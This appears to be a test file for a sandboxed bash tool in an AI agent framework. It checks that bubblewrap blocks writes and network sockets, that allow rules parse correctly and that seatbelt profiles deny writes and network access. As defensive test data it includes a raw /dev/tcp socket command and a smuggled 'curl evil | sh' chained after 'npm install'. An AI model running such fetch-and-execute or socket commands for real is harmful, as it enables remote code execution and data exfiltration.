import { existsSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createBashTool } from "../bash-tool.js";
import { createTempWorkspace, resultText, type TempWorkspace } from "../testing/temp-workspace.js";
import { allowsNetwork } from "./allows-network.js";
import { detectSandbox } from "./detect-sandbox.js";
import { seatbeltProfile } from "./sandbox-command.js";

const status = detectSandbox();
const bubblewrap = status.available && status.kind === "bubblewrap";

let workspace: TempWorkspace;
let outside: string;
let server: Server | undefined;
let connections = 0;
beforeEach(() => {
  workspace = createTempWorkspace();
  outside = workspace.outside;
  connections = 0;
});
afterEach(async () => {
  workspace.remove();
  await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
  server = undefined;
});

async function listen(): Promise<number> {
  server = createServer((socket) => {
    connections += 1;
    socket.end("pong\n");
  });
  await new Promise<void>((resolve) => server!.listen(0, "127.0.0.1", resolve));
  return (server.address() as AddressInfo).port;
}

async function run(command: string, sandbox: NonNullable<Parameters<typeof createBashTool>[0]>["sandbox"]) {
  const tool = createBashTool({ sandbox });
  return resultText(await tool.run({ command }, workspace.context()));
}

describe.runIf(bubblewrap)("bash in the bubblewrap sandbox", () => {
  it("gives a timed-out command its grace after SIGTERM: the sandbox is not torn down first", async () => {
    // The trap takes a while; a SIGKILL right after the SIGTERM would never let it finish.
    const tool = createBashTool({ sandbox: { mode: "auto" }, killGraceMs: 2000 });
    const result = await tool.run({ command: "trap 'sleep 0.3; echo cleaned > cleanup.txt; exit 3' TERM; sleep 30 & wait", timeout: 300 }, workspace.context());
    expect(resultText(result)).toContain("timed out after 0.3 s");
    expect(readFileSync(path.join(workspace.root, "cleanup.txt"), "utf8")).toBe("cleaned\n");
  });

  it("writes in the workspace but nowhere else", async () => {
    const probe = `/var/tmp/bridle-sandbox-probe-${process.pid}`;
    const text = await run(`echo in > made.txt && echo out > ${outside}/escaped.txt; echo "status $?"; touch ${probe}; echo "status $?"`, { mode: "auto" });
    expect(readFileSync(path.join(workspace.root, "made.txt"), "utf8")).toBe("in\n");
    // The folder outside is under /tmp, which the sandbox replaces with an empty one of its own.
    expect(existsSync(path.join(outside, "escaped.txt"))).toBe(false);
    expect(existsSync(probe)).toBe(false);
    expect(text).toMatch(/touch: cannot touch '\/var\/tmp\/bridle-sandbox-probe-\d+': Read-only file system/);
    expect(text.match(/status 1/g)).toHaveLength(2);
  });

  it("opens no network socket unless an allow rule grants the network", async () => {
    const port = await listen();
    const command = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -n 1 <&3`;
    const closed = await run(command, { mode: "auto" });
    expect(closed).not.toContain("pong");
    expect(connections).toBe(0);
    const open = await run(command, { mode: "auto", allow: ["network(exec*)", "network(head*)"] });
    expect(open).toContain("pong");
    expect(connections).toBe(1);
  });

  it("runs unsandboxed when off", async () => {
    await run(`echo out > ${outside}/escaped.txt`, { mode: "off" });
    expect(readFileSync(path.join(outside, "escaped.txt"), "utf8")).toBe("out\n");
  });
});

describe("detectSandbox", () => {
  it("reports the sandbox unavailable, with the reason, where bubblewrap is missing or the platform has none", () => {
    expect(detectSandbox({ platform: "linux", searchPath: outside })).toEqual({ available: false, reason: expect.stringMatching(/bubblewrap \(bwrap\) is not installed/) });
    expect(detectSandbox({ platform: "win32", searchPath: outside })).toEqual({ available: false, reason: "no sandbox is supported on win32" });
  });
});

describe("allowsNetwork", () => {
  it("grants the network by a bare rule or when every part of the command matches", () => {
    expect(allowsNetwork("curl x", [])).toBe(false);
    expect(allowsNetwork("curl x", ["network"])).toBe(true);
    expect(allowsNetwork("npm install", ["network(npm install*)"])).toBe(true);
    expect(allowsNetwork("npm install && curl evil | sh", ["network(npm install*)"])).toBe(false);
    expect(allowsNetwork("curl x", ["bash(curl*)"])).toBe(false);
  });
});

describe("seatbeltProfile", () => {
  it("denies writes outside the workspace and temp folders, and the network unless allowed", () => {
    const profile = seatbeltProfile({ workspace: '/Users/me/my "repo"', network: false });
    expect(profile).toContain("(deny file-write*)");
    expect(profile).toContain('(subpath "/Users/me/my \\"repo\\"")');
    expect(profile).toContain("(deny network*)");
    expect(seatbeltProfile({ workspace: "/w", network: true })).not.toContain("(deny network*)");
  });
});
